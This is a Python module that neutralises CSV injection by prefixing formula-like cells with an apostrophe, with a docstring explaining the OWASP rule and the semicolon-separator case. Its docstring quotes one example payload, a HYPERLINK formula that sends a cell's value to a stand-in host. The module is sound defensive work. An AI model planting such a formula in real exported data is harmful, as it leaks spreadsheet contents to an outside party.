"""CSV cells a spreadsheet opens as text, never as a formula (CSV injection).

A spreadsheet (Excel, LibreOffice, Google Sheets, Gnumeric) evaluates a cell that begins with
``=``, ``+``, ``-`` or ``@`` as a formula, and a tab or carriage return in front does not stop
some of them. Push results come from the integration, so a ``serviceName`` such as
``=HYPERLINK("https://evil.example/?"&A2,"details")`` would otherwise run in the client's
spreadsheet. OWASP's rule: such a cell gets a leading apostrophe, which spreadsheets read as
"this is text" and do not show. The csv module quotes what needs quoting. Where a spreadsheet
splits cells at ";" (the list separator of many locales), each part after a ";" gets the same
rule.
"""

import re
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Spreadsheets in locales whose list separator is ";" (much of Europe) split a CSV's lines at
# every ";": a ";" followed by a trigger starts a cell that is a formula there.
AFTER_SEMICOLON = re.compile(r";(?=[-=+@\t\r])")
AFTER_SEMICOLON_SQL = r";([-=+@\t\r])"  # the same, for PostgreSQL's regexp_replace


def safe_cell(value: Any) -> Any:
    """``value`` as a CSV cell: text that starts like a formula gets a leading ``'``, and so
    does each part after a ``;`` that would start like one."""
    if not isinstance(value, str):
        return value
    if ";" in value:
        value = AFTER_SEMICOLON.sub(";'", value)
    if value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value
